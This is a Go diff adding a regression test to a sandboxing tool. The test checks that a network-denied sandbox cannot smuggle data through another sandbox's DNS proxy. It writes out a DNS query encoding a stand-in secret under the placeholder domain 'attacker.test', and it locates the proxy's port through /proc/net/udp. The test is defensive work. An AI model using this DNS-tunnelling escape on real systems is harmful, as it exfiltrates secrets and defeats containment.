@@ -7,10 +7,12 @@ import (
 	"net"
 	"net/netip"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strconv"
 	"strings"
 	"sync"
+	"syscall"
 	"testing"
 	"time"
 
@@ -35,6 +37,8 @@ func init() { testutil.HelperOps(netToolEnv, netToolOp) }
 //	                           file named by $AIGATE_ESCAPE_PORT_FILE, then
 //	                           answer "hi\n" to each client for 60 s
 //	bind tcp|udp ADDR:PORT     bind (tcp: and listen), print the errno, close
+//	dnsq ADDR:PORT NAME        send an A query for NAME over UDP: "rcode N"
+//	                           for an answer, the errno or "timeout" otherwise
 func netToolOp(args []string) string {
 	if len(args) < 2 {
 		return fmt.Sprintf("bad op %q", args)
@@ -52,6 +56,11 @@ func netToolOp(args []string) string {
 		}
 		defer unix.Close(fd)
 		return errnoText(unix.Sendto(fd, []byte("x"), 0, sa))
+	case "dnsq":
+		if len(args) != 3 {
+			return fmt.Sprintf("bad op %q", args)
+		}
+		return dnsQuery(args[1], args[2])
 	case "connect", "bind", "serve":
 	default:
 		return fmt.Sprintf("bad op %q", args)
@@ -124,6 +133,35 @@ func netToolOp(args []string) string {
 	}()
 	time.Sleep(60 * time.Second)
 	return "done"
+}
+
+func dnsQuery(addr, name string) string {
+	dst, err := netip.ParseAddrPort(addr)
+	if err != nil {
+		return err.Error()
+	}
+	// A minimal query: id 0x4147, recursion desired, one question, IN A.
+	q := []byte{0x41, 0x47, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
+	for _, label := range strings.Split(strings.TrimSuffix(name, "."), ".") {
+		q = append(append(q, byte(len(label))), label...)
+	}
+	q = append(q, 0, 0, 1, 0, 1)
+	sa, fam := toSockaddr(dst)
+	fd, err := unix.Socket(fam, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
+	if err != nil {
+		return errnoText(err)
+	}
+	defer unix.Close(fd)
+	if err := unix.Sendto(fd, q, 0, sa); err != nil {
+		return errnoText(err)
+	}
+	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 3})
+	buf := make([]byte, 512)
+	n, _, err := unix.Recvfrom(fd, buf, 0)
+	if err != nil || n < 4 {
+		return "timeout"
+	}
+	return fmt.Sprintf("rcode %d", buf[3]&0xf)
 }
 
 func toSockaddr(a netip.AddrPort) (unix.Sockaddr, int) {
@@ -263,6 +301,88 @@ port=$(cut -d' ' -f2 %[1]s)`, portFile, b.tool("serve tcp "+addr))
 			if e.Kind == events.KindNet {
 				t.Errorf("unexpected event %+v", e)
 			}
+		}
+	})
+}
+
+// localUDPPorts lists the ports of the UDP sockets bound to 127.0.0.1 in
+// this network namespace (/proc/net/udp).
+func localUDPPorts(t *testing.T) map[uint16]bool {
+	t.Helper()
+	data, err := os.ReadFile("/proc/net/udp")
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := map[uint16]bool{}
+	for _, l := range strings.Split(string(data), "\n")[1:] {
+		f := strings.Fields(l)
+		if len(f) < 2 {
+			continue
+		}
+		addr, port, ok := strings.Cut(f[1], ":")
+		if !ok || addr != "0100007F" {
+			continue
+		}
+		if p, err := strconv.ParseUint(port, 16, 16); err == nil {
+			out[uint16(p)] = true
+		}
+	}
+	return out
+}
+
+// TestEscapeOtherSandboxProxy is the issue's attack: a net: deny sandbox
+// (with allow_loopback: all, so that only the proxy rule stands in the way)
+// finds the DNS proxy of another sandbox of the same user, one in audit
+// mode whose proxy answers every name, and sends it a query carrying data.
+// The send is refused with an event, and nothing answers.
+func TestEscapeOtherSandboxProxy(t *testing.T) {
+	eachBackend(t, func(t *testing.T, a *box) {
+		before := localUDPPorts(t)
+		b := newBox(t, a.backend)
+		b.config("mode: audit\nnet: deny\n")
+		cmd := b.asUser(exec.Command(machine.bin, "run", "--", "sleep", "60"))
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() {
+			_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
+			_ = cmd.Wait()
+		})
+		// The audit sandbox's proxy: a new UDP socket on 127.0.0.1.
+		var ports []uint16
+		for deadline := time.Now().Add(runLimit); len(ports) == 0; {
+			for p := range localUDPPorts(t) {
+				if !before[p] {
+					ports = append(ports, p)
+				}
+			}
+			if time.Now().After(deadline) {
+				t.Fatal("no proxy of the audit sandbox appeared")
+			}
+			time.Sleep(50 * time.Millisecond)
+		}
+
+		a.config("net: deny\nallow_loopback: all\n")
+		var ops []string
+		for _, p := range ports {
+			ops = append(ops, fmt.Sprintf("dnsq 127.0.0.1:%d exfil-sk-escape-test-secret.attacker.test", p))
+		}
+		r := a.sh(a.tool(strings.Join(ops, ";")))
+		refused := 0
+		for i, line := range r.lines() {
+			if line == "EPERM" {
+				refused++
+				if _, ok := r.denied(events.OpSend, fmt.Sprintf("127.0.0.1:%d", ports[i])); !ok {
+					t.Errorf("no event for the refused query to port %d:\n%s", ports[i], r)
+				}
+				continue
+			}
+			if strings.HasPrefix(line, "rcode") {
+				t.Errorf("port %d answered a query from another sandbox: %s\n%s", ports[i], line, r)
+			}
+		}
+		if refused == 0 {
+			t.Errorf("no query to the audit sandbox's proxy was refused (ports %v):\n%s", ports, r)
 		}
 	})
 }
